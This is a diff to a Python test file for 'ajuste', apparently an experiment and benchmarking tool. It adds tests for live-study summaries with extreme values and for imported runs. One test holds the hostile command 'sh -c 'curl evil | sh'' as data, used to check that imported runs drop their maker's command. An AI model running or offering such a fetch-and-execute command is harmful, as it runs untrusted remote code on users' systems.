@@ -2,22 +2,28 @@
 
 from __future__ import annotations
 
+import json
 import os
 import shlex
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
-from ajuste.analysis.live import live_answer
+from ajuste.analysis.live import assemble_live, live_answer
 from ajuste.catalogue.loader import catalogue
 from ajuste.kernel.spec import parse_spec
 from ajuste.model.kernel import KernelVersion
-from ajuste.model.live import BREACH
+from ajuste.model.live import BEGIN, BREACH, END, LiveDesign, LiveMetric
+from ajuste.model.metric import Metric
 from ajuste.model.trial import Slot, Trial
+from ajuste.report.markdown import markdown
+from ajuste.report.results import results_report
 from ajuste.run.experiment import goes_on
 from ajuste.run.outcome import results_of
 from ajuste.run.testbed import Experiment
+from ajuste.store.head import IMPORTED
 from ajuste.store.store import Run, Store
 from ajuste.study.read import read_study
 from ajuste.study.resolve import resolve
@@ -93,6 +99,28 @@ def test_a_guard_that_the_baseline_breaks_too_is_not_blamed_on_a_setting_alone(t
     assert "baseline" not in live_answer(study, (), slices[1:])
 
 
+def test_kept_figures_that_nobody_can_compute_with_count_as_none(tmp_path: Path, store: Store) -> None:
+    metric = Metric(name="took", title="took", unit="ms", direction="lower")
+    design = LiveDesign(metrics=(LiveMetric(metric=metric, kind="x", where="y"),), slice_s=2, for_s=60)
+    study = ResolvedStudy.model_validate_json(begun("live", tmp_path, store).resolved)
+    study = study.model_copy(update={"live": design, "deciding": (metric,), "described": ()})
+    slices = [
+        Trial(
+            slot=Slot(block=block, position=place, configuration=name, seed=1),
+            status="ok",
+            metrics={"took": value, BEGIN: 4.0 * block + 2 * place, END: 4.0 * block + 2 * place + 2},
+            console=json.dumps({"readings": {"took": [(1.0, value), (2.0, value)]}}),
+        )
+        for block, value in enumerate((1.0, -1e308, 3.0, 1e308))
+        for place, name in enumerate(study.names)
+    ]
+    results = assemble_live(study, slices, run="x", stopped="time", stopped_because="the time is over")
+    summary = results.configurations[0].metrics["took"]
+    assert (summary.n, summary.mean, summary.sd) == (2, 2.0, pytest.approx(2**0.5))
+    assert results.live is not None
+    assert {value for value in results.live.lines[0].values if value is not None} == {1.0, 3.0}
+
+
 def reproduced(named: str, tmp_path: Path, store: Store) -> str:
     """What is said of a run of that name of the small study."""
     (command,) = results_of(begun(named, tmp_path, store), store).reproduce
@@ -165,6 +193,13 @@ def test_a_study_goes_on_by_its_name(tmp_path: Path, store: Store) -> None:
     assert words[-4:] == ["--seed", "1", "--kernel", "debian:5.10"]
     assert words.count("--max-time") == 1
     assert "1m" not in words
+
+
+def test_an_imported_run_has_no_command_of_its_maker(tmp_path: Path, store: Store) -> None:
+    run = undecided("ajuste compare --nice 0,5 -- sh -c 'curl evil | sh'", tmp_path, store)
+    assert "curl" in markdown(results_report(results_of(run, store)))
+    imported = replace(run, fingerprint=f"{IMPORTED}f")
+    assert "curl" not in results_of(imported, store).model_dump_json()
 
 
 @pytest.mark.parametrize("stopped", ["decided", "irrelevant", "failed"])
